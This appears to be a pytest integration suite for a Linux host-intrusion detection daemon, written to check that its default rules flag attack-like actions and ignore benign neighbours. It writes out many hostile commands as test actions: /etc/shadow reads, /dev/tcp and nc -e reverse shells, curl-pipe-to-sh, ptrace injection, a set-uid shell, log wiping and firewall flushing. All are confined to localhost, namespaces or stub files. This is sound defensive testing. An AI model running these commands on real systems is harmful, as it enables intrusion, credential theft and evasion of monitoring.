# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""The default ruleset (packaging/rules/*.yaml) against real actions on this machine.

One kansokud runs for the module, watching what the rules need. Each case performs the real action (reads
/etc/shadow, opens a reverse shell, attaches with ptrace, ...) and a benign neighbour, collects the events
of both from the daemon's output, runs the offline tester (`kansoku rules test`) on them and asserts that
the rule matched an event of the action's process tree and none of the neighbour's. Every case undoes what
it did (files removed or left untouched, users deleted, processes killed); actions that could disturb the
host run in a private mount or network namespace, or open files for writing without writing.

Hook for the daemon-side integration: when kansokud itself emits Detection Findings (class 2004), the same
cases also assert the finding (assert_finding_if_integrated).
"""
import glob
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time

import pytest

from conftest import KANSOKU, ROOT, Daemon

RULE_FILES = sorted(glob.glob(os.path.join(ROOT, "packaging", "rules", "*.yaml")))
PY = "/usr/bin/python3"
SCRATCH = tempfile.mkdtemp(prefix="ks-rules-", dir="/tmp")  # world-traversable: set-uid tests run as nobody
os.chmod(SCRATCH, 0o755)
HOME = f"/home/kstest-{os.getpid()}"  # a home directory of no user: ~/.ssh and history files live here
LOGDIR = f"/var/log/kstest-{os.getpid()}"
TAG = f"kstest-{os.getpid()}"


def daemon_config(network):
    ops = "[write, create, delete, rename, attrib]"
    watch = [
        f"{{path: /etc, ops: {ops}}}",
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/ssh",
        f"{{path: /root, ops: {ops}}}",
        "/root/.ssh",
        "/home/*/.ssh",
        f"{HOME}",
        f"{{path: /boot, ops: {ops}}}",
        f"{{path: /usr/bin, ops: {ops}}}",
        f"{{path: /usr/sbin, ops: {ops}}}",
        f"{{path: /usr/lib, ops: {ops}}}",
        "/var/spool/cron",
        f"{{path: {LOGDIR}, ops: {ops}}}",
        f"{{path: {SCRATCH}, ops: [create, write]}}",
    ]
    net = "network:\n  ringbuf_kb: 16384\n  accept_wait_ms: 0\n" if network else "network:\n  enabled: false\n"
    return (
        "files:\n  aggregate_window_ms: 0\n  watch:\n"
        + "".join(f"    - {w}\n" for w in watch)
        + net
        + "ringbuf:\n  poll_ms: 20\n  wakeup_bytes: 0\n"
    )


# Cases whose rules read network or DNS events: they get a daemon of their own with network observation, so
# the others do not wait behind the network traffic of everything else this shared host runs.
NETWORK_CASES = {"KS-NET-001", "KS-NET-002", "KS-NET-003", "KS-SEQ-001", "KS-C2-001", "KS-C2-002", "KS-C2-003",
                 "KS-C2-004", "KS-C2-006"}


def start_daemon(tmp_path_factory, network):
    if os.geteuid() != 0:
        pytest.skip("needs root")
    if subprocess.run([KANSOKU, "rules", "check", *RULE_FILES], capture_output=True).returncode != 0:
        pytest.fail("the default ruleset does not load: run kansoku rules check packaging/rules/*.yaml")
    os.makedirs(os.path.join(HOME, ".ssh"), exist_ok=True)
    os.makedirs(LOGDIR, exist_ok=True)
    # never rotate: the reader keeps an offset into the one file
    daemon = Daemon(str(tmp_path_factory.mktemp("rulesd")), daemon_config(network), "    max_size_kb: 0\n")
    daemon.network = network
    daemon.start()
    daemon.feed = Feed(daemon.events_path)
    return daemon


@pytest.fixture(scope="module")
def scratch_dirs():
    yield
    shutil.rmtree(HOME, ignore_errors=True)
    shutil.rmtree(LOGDIR, ignore_errors=True)
    shutil.rmtree(SCRATCH, ignore_errors=True)


@pytest.fixture(scope="module")
def d_quiet(tmp_path_factory, scratch_dirs):
    daemon = start_daemon(tmp_path_factory, False)
    yield daemon
    assert daemon.stop() == 0


@pytest.fixture(scope="module")
def d_net(tmp_path_factory, scratch_dirs):
    daemon = start_daemon(tmp_path_factory, True)
    yield daemon
    assert daemon.stop() == 0


# ---- running actions and reading back what they caused ----


def run(argv, **kw):
    """Run argv to completion; returns its pid (the root of the tree whose events count)."""
    kw.setdefault("stdin", subprocess.DEVNULL)
    kw.setdefault("stdout", subprocess.DEVNULL)
    kw.setdefault("stderr", subprocess.DEVNULL)
    p = subprocess.Popen(argv, **kw)
    try:
        p.wait(timeout=20)
    except subprocess.TimeoutExpired:
        p.kill()
        p.wait()
    return p.pid


def sh(cmd, **kw):
    return run(["/usr/bin/bash", "--norc", "--noprofile", "-c", cmd], **kw)


def py(code, *args, **kw):
    return run([PY, "-c", code, *args], **kw)


def tool(name, src="/usr/bin/true", subdir="bin"):
    """A copy of src under the scratch directory named name: the rule sees a program by that name."""
    d = os.path.join(SCRATCH, subdir)
    os.makedirs(d, exist_ok=True)
    path = os.path.join(d, name)
    if not os.path.exists(path):
        shutil.copy(src, path)
        os.chmod(path, 0o755)
    return path


def subject(e):
    cls, act = e.get("class_uid"), e.get("activity_id")
    return e.get("process") if cls == 1007 and act in (1, 2) else (e.get("actor") or {}).get("process")


def tree(events, roots):
    """The pids of roots and of every process whose parent is in the set (from the events' process objects)."""
    parent = {}
    for e in events:
        p = subject(e) or {}
        if p.get("pid") and (p.get("parent_process") or {}).get("pid"):
            parent.setdefault(p["pid"], p["parent_process"]["pid"])
    pids, grew = set(roots), True
    while grew:
        grew = False
        for pid, pp in parent.items():
            if pp in pids and pid not in pids:
                pids.add(pid)
                grew = True
    return pids


SYNC_TIMEOUT = 60  # this host is shared: under load the daemon lags, it does not lose (drops are counted)
_sentinels = [0]
PARSED = (b'{"class_uid":1007,', b'{"class_uid":1001,', b'{"class_uid":1002,', b'{"class_uid":2004,')


class Feed:
    """The daemon's output, read as it grows. Lines are kept as written (the tester reads them so); only
    process, file, module and finding events are parsed here: on a shared host the network events of other
    people's benchmarks can run at tens of thousands a second, and parsing them all would make this reader,
    not the daemon, the bottleneck."""

    def __init__(self, path):
        self.path, self.offset, self.raw, self.parsed, self.base = path, 0, [], [], 0

    def poll(self):
        """Reads what is new; returns the (absolute) index of the next line."""
        with open(self.path, "rb") as f:
            f.seek(self.offset)
            data = f.read()
        cut = data.rfind(b"\n") + 1
        self.offset += cut
        for line in data[:cut].splitlines():
            if line.startswith(PARSED):
                self.parsed.append((self.base + len(self.raw), json.loads(line)))
            self.raw.append(line)
        return self.base + len(self.raw)

    def start(self):
        """Forget everything read so far (memory stays bounded); returns where the new window starts."""
        end = self.poll()
        self.raw, self.parsed, self.base = [], [], end
        return end

    def events(self, start, end):
        return [e for i, e in self.parsed if start <= i < end]

    def lines(self, start, end):
        return self.raw[start - self.base : end - self.base]

    def wait(self, since, pred=None, needle=None, what="event"):
        deadline, i_raw, i_p = time.time() + SYNC_TIMEOUT, since - self.base, 0
        while True:
            self.poll()
            while i_p < len(self.parsed) and self.parsed[i_p][0] < since:
                i_p += 1
            for _, e in self.parsed[i_p:]:
                if pred and pred(e):
                    return
            i_p = len(self.parsed)
            if needle and any(needle in line for line in self.raw[i_raw:]):
                return
            i_raw = len(self.raw)
            if time.time() > deadline:
                raise AssertionError(f"timed out waiting for {what}")
            time.sleep(0.05)


def settle(dmn, pid, since):
    """Wait until every ring has passed what the action did: the root's Terminate on the process ring, then
    a sentinel file creation (file ring) and a sentinel DNS query (network ring) made afterwards. Each ring
    is delivered in order, so whatever the action caused is in the output once its sentinel is."""
    _sentinels[0] += 1
    n = _sentinels[0]
    dmn.feed.wait(
        since,
        lambda e: e.get("class_uid") == 1007 and e.get("activity_id") == 2 and e["process"].get("pid") == pid,
        what=f"the end of pid {pid}",
    )
    path = os.path.join(SCRATCH, f"sentinel-{n}")
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
    os.unlink(path)
    dmn.feed.wait(since, lambda e: (e.get("file") or {}).get("path") == path, what="the file sentinel")
    if dmn.network:
        name = f"sentinel-{n}.kstest.invalid"
        send_dns(name)
        dmn.feed.wait(since, needle=name.encode(), what="the DNS sentinel")


def send_dns(name):
    q = struct.pack(">HHHHHH", 0x4B53, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.sendto(q, ("127.0.0.1", 53))
    c.close()


def drops(dmn):
    try:
        st = dmn.cli_json("status")
    except (AssertionError, ValueError) as e:  # a daemon too busy to answer in time
        return f"status unavailable: {e}"
    return {k: v["dropped"] for k, v in st["events"].items() if v["dropped"]}


def rules_test(lines, tmp):
    path = os.path.join(tmp, "events.ndjson")
    with open(path, "wb") as f:
        for line in lines:
            f.write(line + b"\n")
    r = subprocess.run([KANSOKU, "rules", "test", *RULE_FILES, path, "--json"], capture_output=True, timeout=60)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    out = []
    for line in r.stdout.decode().splitlines():
        line = line.strip()
        if line.startswith("{"):
            out.append(json.loads(line))
    return out


def assert_finding_if_integrated(events, rule, pids):
    """Once kansokud emits Detection Findings (2004) itself, the finding must be there too."""
    findings = [e for e in events if e.get("class_uid") == 2004]
    if not findings:
        return  # daemon-side evaluation not integrated yet: the offline tester's verdict stands alone
    def subjects(f):
        """The pids a finding names: its actor, and the process and actor of each evidence (a Launch's
        subject is its evidence's process; the actor is the parent)."""
        out = {((f.get("actor") or {}).get("process") or {}).get("pid")}
        for ev in f.get("evidences") or []:
            out.add((ev.get("process") or {}).get("pid"))
            out.add(((ev.get("actor") or {}).get("process") or {}).get("pid"))
            out.add((ev.get("data") or {}).get("pid"))
        return out

    mine = [
        f
        for f in findings
        if ((f.get("finding_info") or {}).get("analytic") or {}).get("uid") == rule and subjects(f) & set(pids)
    ]
    assert mine, f"kansokud raised no Detection Finding for {rule}"


def check(dmn, rule, action, neighbour=None, cleanup=None, tmp=None):
    start = dmn.feed.start()
    try:
        a = action()
        settle(dmn, a, start)
        n = None
        if neighbour:
            n = neighbour()
            settle(dmn, n, start)
    finally:
        if cleanup:
            cleanup()
    end = dmn.feed.poll()
    events = dmn.feed.events(start, end)
    apids = tree(events, [a])
    npids = tree(events, [n]) if n else set()
    matches = rules_test(dmn.feed.lines(start, end), tmp or SCRATCH)
    if os.environ.get("KS_RULES_DUMP"):  # debugging a case: keep what the tester saw
        shutil.copy(os.path.join(tmp or SCRATCH, "events.ndjson"), os.environ["KS_RULES_DUMP"])
    hits = [m for m in matches if m["rule"] == rule and m["pid"] in apids]
    assert hits, f"{rule} did not match the action (pids {sorted(apids)}); matches: " + json.dumps(
        [(m["rule"], m["pid"]) for m in matches]
    ) + f"; kernel drops so far: {drops(dmn)}"
    bad = [m for m in matches if m["rule"] == rule and m["pid"] in npids]
    assert not bad, f"{rule} matched the benign neighbour: {bad}"
    assert_finding_if_integrated(events, rule, apids)
    return hits


def rm(*paths):
    def go():
        for p in paths:
            if os.path.isdir(p) and not os.path.islink(p):
                shutil.rmtree(p, ignore_errors=True)
            elif os.path.lexists(p):
                os.unlink(p)

    return go


# Python snippets for actions that need a syscall the shell cannot make.
TOUCH_W = "import os,sys\nfor p in sys.argv[1:]:\n    os.close(os.open(p, os.O_WRONLY|os.O_APPEND))"
CREATE_RM = "import os,sys\nfor p in sys.argv[1:]:\n    open(p,'w').close(); os.unlink(p)"
CREATE = "import sys\nfor p in sys.argv[1:]:\n    open(p,'w').write('x\\n')"
READ = "import sys\nfor p in sys.argv[1:]:\n    open(p,'rb').read()"


def write_existing_or_create(path):
    """Open an existing file for writing without writing (content and mtime unchanged), or create and
    remove it at once."""
    return (lambda: py(TOUCH_W, path)) if os.path.exists(path) else (lambda: py(CREATE_RM, path))


def netns(script):
    """Run a Python script in a private network namespace whose loopback also answers on 169.254.169.254
    and 198.51.100.7 (TEST-NET-2): real connections that never leave this host."""
    prog = (
        "ip link set lo up && ip addr add 169.254.169.254/32 dev lo && ip addr add 198.51.100.7/32 dev lo"
        f" && exec {PY} -c \"$KS_PY\""
    )
    return run(["unshare", "-n", "sh", "-c", prog], env=dict(os.environ, KS_PY=script))


def listen_connect(host, port, before=""):
    return (
        "import socket\n" + before + "s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        f"s.bind(('{host}', {port})); s.listen(1)\n"
        f"c=socket.create_connection(('{host}', {port}), timeout=3); a,_=s.accept(); a.close(); c.close()\n"
    )


def dns_query(name):
    code = (
        "import socket,struct,sys\n"
        "name=sys.argv[1]\n"
        "q=struct.pack('>HHHHHH',0x4b53,0x0100,1,0,0,0)+b''.join(bytes([len(p)])+p.encode() for p in name.split('.'))"
        "+b'\\0'+struct.pack('>HH',1,1)\n"
        "c=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); c.sendto(q,('127.0.0.1',53))\n"
    )
    return lambda: py(code, name)


def local_listener():
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    return srv, srv.getsockname()[1]


# ---- the cases: rule id -> (action, neighbour, cleanup) built at run time ----


def case_cred_001():
    return (lambda: run(["cat", "/etc/shadow"]), lambda: run(["passwd", "-S", "root"]), None)


def case_persist_001():
    return (write_existing_or_create("/etc/ld.so.preload"), lambda: py(CREATE_RM, f"/etc/{TAG}-preload"), None)


def case_exec_001():
    x = tool("dropped")
    return (lambda: run([x]), lambda: run(["/usr/bin/true"]), None)


def case_exec_002_memfd():
    code = (
        "import os\nfd=os.memfd_create('payload')\nos.write(fd, open('/usr/bin/true','rb').read())\n"
        "os.execv(f'/proc/self/fd/{fd}', ['payload'])"
    )
    return (lambda: py(code), lambda: py("import os; os.execv('/usr/bin/true', ['true'])"), None)


def case_exec_002_deleted():
    code = (
        "import os,shutil,sys\np=sys.argv[1]\nshutil.copy('/usr/bin/true', p); os.chmod(p, 0o755)\n"
        "fd=os.open(p, os.O_RDONLY); os.unlink(p)\nos.execv(f'/proc/self/fd/{fd}', ['gone'])"
    )
    p = os.path.join(SCRATCH, "self-deleting")
    return (lambda: py(code, p), lambda: py("import os; os.execv('/usr/bin/true', ['true'])"), rm(p))


def ns_exec(target, src, argv):
    """Exec src under the path target in a private mount namespace (the host's file is untouched)."""
    cmd = f"mount --bind {src} {target} && exec {target} {' '.join(argv)}"
    return run(["unshare", "-m", "sh", "-c", cmd])


def case_shell_001():
    timeout = "/usr/bin/timeout"
    return (
        lambda: ns_exec("/usr/sbin/nginx", timeout, ["5", "/bin/sh", "-c", "true"]),
        lambda: ns_exec("/usr/sbin/nginx", timeout, ["5", "/usr/bin/true"]),
        None,
    )


def case_net_001():
    return (
        lambda: netns(listen_connect("169.254.169.254", 80)),
        lambda: netns(listen_connect("198.51.100.7", 80)),
        None,
    )


def case_net_002():
    return (
        lambda: netns(listen_connect("198.51.100.7", 3333)),
        lambda: netns(listen_connect("198.51.100.7", 8080)),
        None,
    )


SCAN = (
    "import socket,sys\nports=[]\n"
    "for _ in range(int(sys.argv[1])):\n"
    "    s=socket.socket(); s.bind(('127.0.0.1',0)); ports.append((s, s.getsockname()[1]))\n"
    "for s,p in ports:\n    c=socket.socket(); c.connect_ex(('127.0.0.1',p)); c.close()\n"
)


def case_net_003():
    return (lambda: py(SCAN, "40"), lambda: py(SCAN, "5"), None)


def case_seq_001():
    return (
        lambda: netns(listen_connect("198.51.100.7", 443, before="open('/etc/shadow').read()\n")),
        lambda: netns(listen_connect("198.51.100.7", 443)),
        None,
    )


def case_priv_001():
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
    return (
        lambda: run(nobody + ["su", "-c", "true", "root"]),
        lambda: run(["su", "-s", "/usr/bin/true", "nobody"]),
        None,
    )


def case_cred_002():
    key = f"/etc/ssh/ssh_host_{TAG}_key"
    made = []

    def action():
        if not os.path.exists(key):
            py(CREATE, key, key + ".pub")
            made.extend([key, key + ".pub"])
        return run(["cat", key])

    return (action, lambda: run(["cat", key + ".pub"]), lambda: rm(*made)())


def case_cred_003():
    key = os.path.join(HOME, ".ssh", "id_kstest")
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    return (lambda: run(["cat", key]), lambda: run(["ssh-keygen", "-y", "-f", key]), rm(key, key + ".pub"))


def case_cred_004():
    creds = os.path.join(HOME, ".aws", "credentials")
    os.makedirs(os.path.dirname(creds), exist_ok=True)
    with open(creds, "w") as f:
        f.write("[default]\naws_access_key_id = AKIAEXAMPLE\n")
    aws = tool("aws", "/usr/bin/cat")
    return (lambda: run(["cat", creds]), lambda: run([aws, creds]), rm(os.path.dirname(creds)))


def case_cred_005():
    return (lambda: run([tool("john"), "--wordlist=/dev/null"]), lambda: run([tool("johnny")]), None)


def case_cred_006():
    return (
        lambda: run(["dd", "if=/proc/self/mem", "of=/dev/null", "bs=1", "count=0"]),
        lambda: run(["dd", "if=/dev/zero", "of=/dev/null", "bs=1", "count=0"]),
        None,
    )


def case_persist_002():
    return (lambda: py(CREATE_RM, f"/etc/cron.d/{TAG}"), lambda: py(CREATE_RM, f"/etc/{TAG}-cron"), None)


def case_persist_003():
    made = [] if os.path.exists("/var/spool/cron") else ["/var/spool/cron"]
    os.makedirs("/var/spool/cron/crontabs", exist_ok=True)
    return (
        lambda: py(CREATE_RM, f"/var/spool/cron/crontabs/{TAG}"),
        lambda: run(["ls", "/var/spool/cron/crontabs"]),
        lambda: rm(*made)(),
    )


def case_persist_004():
    return (
        lambda: py(CREATE_RM, f"/etc/systemd/system/{TAG}.service"),
        lambda: py(CREATE_RM, f"/etc/systemd/{TAG}.txt"),
        None,
    )


def case_persist_005():
    return (lambda: py(CREATE_RM, f"/etc/init.d/{TAG}"), lambda: py(CREATE_RM, f"/etc/{TAG}-init"), None)


def case_persist_006():
    ak, kh = os.path.join(HOME, ".ssh", "authorized_keys"), os.path.join(HOME, ".ssh", "known_hosts")
    return (lambda: py(CREATE, ak), lambda: py(CREATE, kh), rm(ak, kh))


def case_persist_007():
    user = f"kst{os.getpid() % 100000}"
    return (
        lambda: run(["useradd", "-M", "-s", "/usr/sbin/nologin", user]),
        lambda: run(["useradd", "-D"]),
        lambda: run(["userdel", user]),
    )


def case_persist_008():
    return (lambda: py(TOUCH_W, "/etc/passwd"), lambda: py(READ, "/etc/passwd"), None)


def case_persist_009():
    return (lambda: py(CREATE_RM, f"/etc/profile.d/{TAG}.sh"), lambda: py(CREATE_RM, f"/etc/{TAG}.sh"), None)


def case_persist_010():
    return (lambda: py(TOUCH_W, "/etc/pam.d/other"), lambda: py(TOUCH_W, "/etc/hostname"), None)


def case_persist_011():
    return (
        write_existing_or_create("/etc/ssh/sshd_config"),
        lambda: py(CREATE_RM, f"/etc/ssh/{TAG}"),
        None,
    )


def case_persist_012():
    made = [] if os.path.exists("/usr/lib/modules") else ["/usr/lib/modules"]
    d = f"/usr/lib/modules/{TAG}"
    os.makedirs(d, exist_ok=True)
    return (
        lambda: py(CREATE_RM, f"{d}/rootkit.ko"),
        lambda: py(CREATE_RM, f"{d}/modules.order"),
        lambda: rm(d, *made)(),
    )


def case_persist_014():
    made = [] if os.path.exists("/etc/sudoers.d") else ["/etc/sudoers.d"]
    os.makedirs("/etc/sudoers.d", mode=0o750, exist_ok=True)
    return (
        lambda: py(CREATE_RM, f"/etc/sudoers.d/{TAG}"),
        lambda: py(CREATE_RM, f"/etc/{TAG}-sudoers"),
        lambda: rm(*made)(),
    )


def reverse_shell(inner):
    srv, port = local_listener()

    def go():
        p = subprocess.Popen(
            ["/usr/bin/bash", "--norc", "--noprofile", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; {inner}"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        conn, _ = srv.accept()
        conn.sendall(b"exit\n")
        p.wait(timeout=10)
        conn.close()
        return p.pid

    return go, srv.close


def case_exec_003():
    go, close = reverse_shell("exec sh -i <&3 >&3 2>&3")
    # neighbours: interactive shells whose stdio is a pipe, and a unix socket (as journald gives services)
    code = (
        "import socket,subprocess\na,b=socket.socketpair()\nb.sendall(b'exit\\n')\n"
        "subprocess.run(['sh','-i'],stdin=a,stdout=a,stderr=subprocess.DEVNULL,timeout=10)\n"
        "subprocess.run(['sh','-i'],stdin=subprocess.DEVNULL,stdout=subprocess.PIPE,stderr=subprocess.DEVNULL)\n"
    )
    return (go, lambda: py(code), close)


def case_exec_004():
    go, close = reverse_shell("echo hello >&3")
    return (go, lambda: sh("echo /dev/null > /dev/null"), close)


def case_exec_005():
    nc = tool("nc")
    return (lambda: run([nc, "-e", "/bin/sh", "127.0.0.1", "9"]), lambda: run([nc, "-z", "127.0.0.1", "9"]), None)


def case_exec_006():
    return (lambda: sh("curl -s file:///dev/null | sh"), lambda: sh("curl -s file:///dev/null | cat"), None)


def case_exec_007():
    return (lambda: sh("echo dHJ1ZQo= | base64 -d | sh"), lambda: sh("echo dHJ1ZQo= | base64 -d >/dev/null"), None)


def case_exec_008():
    drop, other = os.path.join(SCRATCH, "dropper"), os.path.join(SCRATCH, "notes")
    return (
        # printf is a builtin: the shell itself writes the file, then runs it
        lambda: sh(f"printf '#!/bin/sh\\ntrue\\n' > {drop}; chmod +x {drop}; {drop}"),
        lambda: sh(f"printf '#!/bin/sh\\ntrue\\n' > {other}; /usr/bin/true"),
        rm(drop, other),
    )


def case_exec_009():
    return (
        lambda: run([PY, "-c", "import socket,subprocess,os;s=None"]),
        lambda: run([PY, "-c", "import socket;s=None"]),
        None,
    )


def case_exec_010():
    pg = tool("postgres", "/usr/bin/timeout")
    return (lambda: run([pg, "5", "/bin/sh", "-c", "true"]), lambda: run([pg, "5", "/usr/bin/true"]), None)


def case_exec_011():
    ngx = tool("nginx", "/usr/bin/timeout")
    return (lambda: run([ngx, "5", "/bin/sh", "-c", "true"]), lambda: run([ngx, "5", "/usr/bin/true"]), None)


def case_exec_012():
    hidden, visible = tool("x", subdir=".hidden"), tool("x", subdir="visible")
    return (lambda: run([hidden]), lambda: run([visible]), None)


def case_priv_002():
    f, dr, plain = os.path.join(SCRATCH, "suid-me"), os.path.join(SCRATCH, "shared-dir"), os.path.join(SCRATCH, "p")
    for p in (f, plain):
        open(p, "w").close()
    os.makedirs(dr, exist_ok=True)
    return (
        lambda: run(["chmod", "u+s", f]),
        lambda: sh(f"chmod g+s {dr}; chmod 0755 {plain}"),
        rm(f, dr, plain),
    )


PTRACE = """
import ctypes,os,subprocess,sys
libc=ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype=ctypes.c_long
libc.ptrace.argtypes=[ctypes.c_long,ctypes.c_long,ctypes.c_void_p,ctypes.c_void_p]
t=subprocess.Popen(['sleep','30'])
import time; time.sleep(0.1)
assert libc.ptrace(16,t.pid,None,None)==0
os.waitpid(t.pid,0)
if sys.argv[1]=='poke':
    addr=next(int(l.split('-')[0],16) for l in open(f'/proc/{t.pid}/maps') if l.split()[1].startswith('rw'))
    w=libc.ptrace(2,t.pid,ctypes.c_void_p(addr),None)
    libc.ptrace(5,t.pid,ctypes.c_void_p(addr),ctypes.c_void_p(w & (2**64-1)))
libc.ptrace(17,t.pid,None,None)
t.kill(); t.wait()
"""


def case_priv_003():
    gdb = shutil.which("gdb")
    # a debugger starting its own program uses PTRACE_TRACEME: no attach
    neighbour = (lambda: run([gdb, "-q", "-batch", "-ex", "run", "--args", "/usr/bin/true"])) if gdb else None
    return (lambda: py(PTRACE, "attach"), neighbour, None)


def case_priv_004():
    return (lambda: py(PTRACE, "poke"), lambda: py(PTRACE, "attach"), None)


def case_priv_005():
    os.makedirs(os.path.join(SCRATCH, "suid"), exist_ok=True)
    os.makedirs(os.path.join(SCRATCH, "plain"), exist_ok=True)
    shell = os.path.join(SCRATCH, "suid", "bash")  # named as the shell it is
    plain = os.path.join(SCRATCH, "plain", "bash")
    for p in (shell, plain):
        shutil.copy("/usr/bin/bash", p)
    os.chmod(shell, 0o4755)
    os.chmod(plain, 0o755)
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
    return (
        lambda: run(nobody + [shell, "-p", "-c", "true"]),
        lambda: run(nobody + [plain, "-p", "-c", "true"]),
        rm(shell, plain),
    )


def case_priv_006():
    f = os.path.join(SCRATCH, "capfile")
    open(f, "w").close()
    return (
        lambda: run(["setcap", "cap_net_raw+ep", f]),
        lambda: run(["setcap", "-v", "cap_net_raw+ep", f]),
        rm(f),
    )


def case_def_001():
    hist = os.path.join(HOME, ".bash_history")
    with open(hist, "w") as f:
        f.write("ls\n")
    return (lambda: run(["truncate", "-s0", hist]), lambda: sh(f"echo ls >> {hist}"), rm(hist))


def case_def_002():
    log = os.path.join(LOGDIR, "app.log")
    with open(log, "w") as f:
        f.write("line\n")
    return (lambda: run(["rm", "-f", log]), lambda: sh(f"echo line >> {LOGDIR}/other.log"), rm(log, f"{LOGDIR}/other.log"))


def case_def_003():
    root = os.path.join(SCRATCH, "sysroot")
    os.makedirs(root, exist_ok=True)
    return (
        lambda: run(["systemctl", f"--root={root}", "disable", "rsyslog.service"]),
        lambda: run(["systemctl", f"--root={root}", "disable", f"{TAG}.service"]),
        rm(root),
    )


def case_def_004():
    return (
        lambda: run(["touch", "-c", "-d", "2020-01-01", f"/etc/{TAG}-absent"]),
        lambda: run(["touch", "-c", f"/etc/{TAG}-absent"]),
        None,
    )


def case_def_005():
    return (lambda: py(CREATE_RM, f"/usr/bin/{TAG}"), lambda: py(READ, "/usr/bin/true"), None)


def case_def_006():
    return (lambda: sh("exec -a '[kworker/0:1]' /usr/bin/true"), lambda: sh("exec -a worker /usr/bin/true"), None)


def case_def_007():
    ipt = tool("iptables")
    return (lambda: run([ipt, "-F"]), lambda: run([ipt, "-L", "-n"]), None)


def case_disc_001():
    return (lambda: run([tool("nmap"), "-sT", "127.0.0.1"]), lambda: run([tool("nmapper")]), None)


def case_disc_002():
    cmds = "id; whoami; uname -a; hostname; uptime; ps -e; ss -tln; df; free; getent passwd root"
    return (lambda: sh(f"({cmds}) >/dev/null 2>&1"), lambda: sh("(id; uname -a; hostname) >/dev/null"), None)


def case_disc_003():
    return (
        lambda: run(["find", "/nonexistent", "-perm", "-4000"]),
        lambda: run(["find", "/nonexistent", "-name", "x"]),
        None,
    )


def case_disc_004():
    return (
        lambda: run(["grep", "-ri", "password", "/nonexistent"]),
        lambda: run(["grep", "-i", "password", "/nonexistent"]),
        None,
    )


LISTEN = "import socket,sys\ns=socket.socket(); s.bind((sys.argv[1],0)); s.listen(1); s.close()"


def case_c2_001():
    return (lambda: py(LISTEN, "0.0.0.0"), lambda: py(LISTEN, "127.0.0.1"), None)


def case_c2_002():
    return (dns_query("pool.supportxmr.com"), dns_query("www.example.com"), None)


def case_c2_003():
    return (dns_query("abc123.ngrok-free.app"), dns_query("ngrok-free.app.example.com"), None)


def case_c2_004():
    go, close = reverse_shell("echo hi >&3")
    srv, port = local_listener()

    def neighbour():
        pid = run(["curl", "-s", "-m", "2", f"http://127.0.0.1:{port}/"])
        return pid

    def cleanup():
        close()
        srv.close()

    return (go, neighbour, cleanup)


def case_c2_005():
    return (lambda: run([tool("chisel"), "client"]), lambda: run([tool("chiseled")]), None)


def case_c2_006():
    return (dns_query("a" * 56 + ".example.com"), dns_query("a" * 20 + ".example.com"), None)


def case_exfil_001():
    return (
        lambda: run(["tar", "-cf", "/dev/null", "/etc/ssh"]),
        lambda: run(["tar", "-cf", "/dev/null", "/etc/hostname"]),
        None,
    )


def case_exfil_002():
    return (
        lambda: run(["curl", "-s", "-m", "1", "-T", "/etc/hostname", "http://127.0.0.1:9/"]),
        lambda: run(["curl", "-s", "-m", "1", "http://127.0.0.1:9/"]),
        None,
    )


def case_impact_001():
    return (lambda: run([tool("xmrig"), "--donate-level", "1"]), lambda: run([tool("xmrigger")]), None)


def case_impact_002():
    return (lambda: py(CREATE_RM, f"/boot/{TAG}"), lambda: run(["ls", "/boot"]), None)


CASES = {
    "KS-CRED-001": case_cred_001,
    "KS-PERSIST-001": case_persist_001,
    "KS-EXEC-001": case_exec_001,
    "KS-EXEC-002/memfd": case_exec_002_memfd,
    "KS-EXEC-002/deleted": case_exec_002_deleted,
    "KS-SHELL-001": case_shell_001,
    "KS-NET-001": case_net_001,
    "KS-NET-002": case_net_002,
    "KS-NET-003": case_net_003,
    "KS-SEQ-001": case_seq_001,
    "KS-PRIV-001": case_priv_001,
    "KS-CRED-002": case_cred_002,
    "KS-CRED-003": case_cred_003,
    "KS-CRED-004": case_cred_004,
    "KS-CRED-005": case_cred_005,
    "KS-CRED-006": case_cred_006,
    "KS-PERSIST-002": case_persist_002,
    "KS-PERSIST-003": case_persist_003,
    "KS-PERSIST-004": case_persist_004,
    "KS-PERSIST-005": case_persist_005,
    "KS-PERSIST-006": case_persist_006,
    "KS-PERSIST-007": case_persist_007,
    "KS-PERSIST-008": case_persist_008,
    "KS-PERSIST-009": case_persist_009,
    "KS-PERSIST-010": case_persist_010,
    "KS-PERSIST-011": case_persist_011,
    "KS-PERSIST-012": case_persist_012,
    "KS-PERSIST-014": case_persist_014,
    "KS-EXEC-003": case_exec_003,
    "KS-EXEC-004": case_exec_004,
    "KS-EXEC-005": case_exec_005,
    "KS-EXEC-006": case_exec_006,
    "KS-EXEC-007": case_exec_007,
    "KS-EXEC-008": case_exec_008,
    "KS-EXEC-009": case_exec_009,
    "KS-EXEC-010": case_exec_010,
    "KS-EXEC-011": case_exec_011,
    "KS-EXEC-012": case_exec_012,
    "KS-PRIV-002": case_priv_002,
    "KS-PRIV-003": case_priv_003,
    "KS-PRIV-004": case_priv_004,
    "KS-PRIV-005": case_priv_005,
    "KS-PRIV-006": case_priv_006,
    "KS-DEF-001": case_def_001,
    "KS-DEF-002": case_def_002,
    "KS-DEF-003": case_def_003,
    "KS-DEF-004": case_def_004,
    "KS-DEF-005": case_def_005,
    "KS-DEF-006": case_def_006,
    "KS-DEF-007": case_def_007,
    "KS-DISC-001": case_disc_001,
    "KS-DISC-002": case_disc_002,
    "KS-DISC-003": case_disc_003,
